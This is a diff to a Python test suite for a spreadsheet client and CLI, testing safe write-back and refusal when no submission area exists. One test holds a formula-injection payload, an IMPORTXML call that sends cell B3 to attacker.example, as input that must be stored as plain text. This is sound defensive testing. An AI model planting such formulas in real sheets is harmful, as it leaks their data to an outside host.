@@ -212,7 +212,8 @@ def test_text_that_looks_like_a_formula_is_written_back_as_text(fake_sheets):
     client = SheetsClient()
     fetched = client.read(book.key)
     hostile = '=IMPORTXML("https://attacker.example/x?"&B3,"//a")'
-    client.write_back(fetched, {"receipt": hostile, "submission_id": "+SUM(1)"}, read_record(fetched.source).sheet)
+    client.write_back(fetched, {"receipt": hostile, "submission_id": "+SUM(1)"},
+                      read_record(fetched.source).submission)
     receipt, sub_id = book.sheets["Record"].cells[(7, 9)], book.sheets["Record"].cells[(4, 9)]
     assert (receipt.formula, receipt.value) == (None, hostile)
     assert (sub_id.formula, sub_id.value) == (None, "+SUM(1)")
@@ -233,3 +234,14 @@ def test_a_sheet_with_a_quoted_title_is_read(cpd, fake_sheets, example_iet):
     a = json.loads(cpd("check", example_iet, "--json", "--as-of", "2025-06-30").output)
     b = json.loads(cpd("sheets", "check", book.key, "--json", "--as-of", "2025-06-30").output)
     assert a == b
+
+
+def test_write_back_without_a_submission_area_is_refused_and_writes_nothing(cpd, fake_sheets):
+    def drop(ws):
+        for r in range(3, 8):
+            ws.cell(row=r, column=8).value = None
+    book = shared(fake_sheets, _edited(EXAMPLE, drop), role="writer")
+    result = cpd("sheets", "check", book.key, "--write-back", "--json")
+    assert result.exit_code == 2
+    assert json.loads(result.output)["error"]["code"] == "sheets_no_submission_area"
+    assert all(method == "GET" for method, _, _ in fake_sheets.calls)
